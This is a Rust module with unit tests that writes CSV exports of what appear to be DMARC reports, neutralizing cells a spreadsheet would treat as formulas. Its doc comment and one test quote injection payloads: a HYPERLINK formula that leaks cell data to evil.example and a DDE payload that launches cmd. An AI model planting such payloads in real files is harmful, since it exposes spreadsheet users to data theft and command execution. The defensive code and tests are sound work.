//! CSV that is safe to open in a spreadsheet.
//!
//! Every text field of a report is the sender's: anyone can send a report to a
//! published `rua` address. A cell such as `=HYPERLINK("http://evil.example/?"&A1)`
//! or `@SUM(1+1)*cmd|' /C calc'!A0` is a formula to Excel, LibreOffice and Google
//! Sheets. As OWASP's CSV injection guidance says, a cell that begins with `=`, `+`,
//! `-`, `@`, a tab or a carriage return is written with a leading `'`, which
//! spreadsheets read as "this is text" and do not show. Scripts that want the
//! cells as sent ask for [`CsvCells::Raw`].

use std::borrow::Cow;
use std::io::Write;

use serde::Serialize;
use serde::ser::{self, Impossible};

use super::write::ExportError;

/// How CSV cells that a spreadsheet would run as a formula are written.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum CsvCells {
    /// A cell beginning with `=`, `+`, `-`, `@`, a tab or a carriage return gets a
    /// leading `'`.
    #[default]
    Neutralized,
    /// Every cell exactly as in the reports (for scripts, not spreadsheets).
    Raw,
}

/// The characters that make a spreadsheet read a cell as a formula (OWASP).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

impl CsvCells {
    /// The cell as written.
    pub fn cell(self, text: &str) -> Cow<'_, str> {
        match self {
            CsvCells::Neutralized if text.starts_with(FORMULA_STARTS) => {
                Cow::Owned(format!("'{text}"))
            }
            _ => Cow::Borrowed(text),
        }
    }
}

/// Writes records as CSV with a header row, also when there are none. A record is
/// a struct of scalars and options (`None` is an empty cell) or a list of cells.
pub fn write_csv<T: Serialize>(
    columns: &[&str],
    records: &[T],
    cells: CsvCells,
    out: impl Write,
) -> Result<(), ExportError> {
    let mut writer = csv::WriterBuilder::new()
        .has_headers(false)
        .from_writer(out);
    writer.write_record(columns)?;
    for record in records {
        record.serialize(CellWriter {
            writer: &mut writer,
            cells,
        })?;
        writer.write_record(None::<&[u8]>)?;
    }
    writer.flush().map_err(csv::Error::from)?;
    Ok(())
}

/// Serializes one record's values as the fields of the current CSV record;
/// numbers as `csv` writes them (`itoa`, `ryu`), text through [`CsvCells::cell`].
struct CellWriter<'a, W: Write> {
    writer: &'a mut csv::Writer<W>,
    cells: CsvCells,
}

impl<W: Write> CellWriter<'_, W> {
    fn field(self, bytes: impl AsRef<[u8]>) -> Result<(), csv::Error> {
        self.writer.write_field(bytes)
    }

    fn reborrow(&mut self) -> CellWriter<'_, W> {
        CellWriter {
            writer: self.writer,
            cells: self.cells,
        }
    }
}

fn unsupported(what: &str) -> csv::Error {
    ser::Error::custom(format!("a CSV cell cannot hold {what}"))
}

macro_rules! integers {
    ($($method:ident: $type:ty),*) => {$(
        fn $method(self, v: $type) -> Result<(), csv::Error> {
            self.field(itoa::Buffer::new().format(v))
        }
    )*};
}

impl<'a, W: Write> ser::Serializer for CellWriter<'a, W> {
    type Ok = ();
    type Error = csv::Error;
    type SerializeSeq = Self;
    type SerializeTuple = Self;
    type SerializeTupleStruct = Self;
    type SerializeTupleVariant = Impossible<(), csv::Error>;
    type SerializeMap = Impossible<(), csv::Error>;
    type SerializeStruct = Self;
    type SerializeStructVariant = Impossible<(), csv::Error>;

    integers!(
        serialize_i8: i8, serialize_i16: i16, serialize_i32: i32, serialize_i64: i64,
        serialize_i128: i128, serialize_u8: u8, serialize_u16: u16, serialize_u32: u32,
        serialize_u64: u64, serialize_u128: u128
    );

    fn serialize_bool(self, v: bool) -> Result<(), csv::Error> {
        self.field(if v { "true" } else { "false" })
    }
    fn serialize_f32(self, v: f32) -> Result<(), csv::Error> {
        self.field(ryu::Buffer::new().format(v))
    }
    fn serialize_f64(self, v: f64) -> Result<(), csv::Error> {
        self.field(ryu::Buffer::new().format(v))
    }
    fn serialize_char(self, v: char) -> Result<(), csv::Error> {
        self.serialize_str(v.encode_utf8(&mut [0; 4]))
    }
    fn serialize_str(self, v: &str) -> Result<(), csv::Error> {
        let cell = self.cells.cell(v);
        self.field(cell.as_bytes())
    }
    fn serialize_bytes(self, _: &[u8]) -> Result<(), csv::Error> {
        Err(unsupported("bytes"))
    }
    fn serialize_none(self) -> Result<(), csv::Error> {
        self.field([])
    }
    fn serialize_some<T: ?Sized + Serialize>(self, value: &T) -> Result<(), csv::Error> {
        value.serialize(self)
    }
    fn serialize_unit(self) -> Result<(), csv::Error> {
        self.field([])
    }
    fn serialize_unit_struct(self, _: &'static str) -> Result<(), csv::Error> {
        self.field([])
    }
    fn serialize_unit_variant(
        self,
        _: &'static str,
        _: u32,
        variant: &'static str,
    ) -> Result<(), csv::Error> {
        self.serialize_str(variant)
    }
    fn serialize_newtype_struct<T: ?Sized + Serialize>(
        self,
        _: &'static str,
        value: &T,
    ) -> Result<(), csv::Error> {
        value.serialize(self)
    }
    fn serialize_newtype_variant<T: ?Sized + Serialize>(
        self,
        _: &'static str,
        _: u32,
        _: &'static str,
        _: &T,
    ) -> Result<(), csv::Error> {
        Err(unsupported("an enum with data"))
    }
    fn serialize_seq(self, _: Option<usize>) -> Result<Self, csv::Error> {
        Ok(self)
    }
    fn serialize_tuple(self, _: usize) -> Result<Self, csv::Error> {
        Ok(self)
    }
    fn serialize_tuple_struct(self, _: &'static str, _: usize) -> Result<Self, csv::Error> {
        Ok(self)
    }
    fn serialize_tuple_variant(
        self,
        _: &'static str,
        _: u32,
        _: &'static str,
        _: usize,
    ) -> Result<Self::SerializeTupleVariant, csv::Error> {
        Err(unsupported("an enum with data"))
    }
    fn serialize_map(self, _: Option<usize>) -> Result<Self::SerializeMap, csv::Error> {
        Err(unsupported("a map"))
    }
    fn serialize_struct(self, _: &'static str, _: usize) -> Result<Self, csv::Error> {
        Ok(self)
    }
    fn serialize_struct_variant(
        self,
        _: &'static str,
        _: u32,
        _: &'static str,
        _: usize,
    ) -> Result<Self::SerializeStructVariant, csv::Error> {
        Err(unsupported("an enum with data"))
    }
}

impl<W: Write> ser::SerializeStruct for CellWriter<'_, W> {
    type Ok = ();
    type Error = csv::Error;
    fn serialize_field<T: ?Sized + Serialize>(
        &mut self,
        _: &'static str,
        value: &T,
    ) -> Result<(), csv::Error> {
        value.serialize(self.reborrow())
    }
    fn end(self) -> Result<(), csv::Error> {
        Ok(())
    }
}

macro_rules! sequence {
    ($($trait:ident :: $method:ident),*) => {$(
        impl<W: Write> ser::$trait for CellWriter<'_, W> {
            type Ok = ();
            type Error = csv::Error;
            fn $method<T: ?Sized + Serialize>(&mut self, value: &T) -> Result<(), csv::Error> {
                value.serialize(self.reborrow())
            }
            fn end(self) -> Result<(), csv::Error> {
                Ok(())
            }
        }
    )*};
}

sequence!(
    SerializeSeq::serialize_element,
    SerializeTuple::serialize_element,
    SerializeTupleStruct::serialize_field
);

#[cfg(test)]
mod tests {
    use super::*;

    #[derive(Serialize)]
    struct Row {
        name: String,
        count: u128,
        rate: Option<f64>,
        note: Option<String>,
    }

    fn csv(cells: CsvCells, rows: &[Row]) -> String {
        let mut out = Vec::new();
        write_csv(&["name", "count", "rate", "note"], rows, cells, &mut out).unwrap();
        String::from_utf8(out).unwrap()
    }

    #[test]
    fn every_formula_start_gets_a_quote_and_other_text_does_not() {
        for (text, written) in [
            ("=1+1", "'=1+1"),
            ("+1", "'+1"),
            ("-1", "'-1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("a=1", "a=1"),
            ("", ""),
            ("'=already", "'=already"),
        ] {
            assert_eq!(CsvCells::Neutralized.cell(text), written, "{text:?}");
            assert_eq!(CsvCells::Raw.cell(text), text, "{text:?}");
        }
    }

    #[test]
    fn records_are_written_as_csv_writes_them_with_text_neutralized() {
        let rows = [
            Row {
                name: "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")".into(),
                count: u128::from(u64::MAX) * 4,
                rate: Some(0.5),
                note: None,
            },
            Row {
                name: "plain".into(),
                count: 1,
                rate: Some(1.0),
                note: Some("-x".into()),
            },
        ];
        assert_eq!(
            csv(CsvCells::Neutralized, &rows),
            "name,count,rate,note\n\
             \"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",73786976294838206460,0.5,\n\
             plain,1,1.0,'-x\n"
        );
        assert!(csv(CsvCells::Raw, &rows).contains("\n\"=HYPERLINK("));
    }

    #[test]
    fn a_list_of_cells_is_one_record() {
        let mut out = Vec::new();
        let rows = vec![vec!["@a".to_string(), "b".to_string()]];
        write_csv(&["x", "y"], &rows, CsvCells::Neutralized, &mut out).unwrap();
        assert_eq!(String::from_utf8(out).unwrap(), "x,y\n'@a,b\n");
    }
}
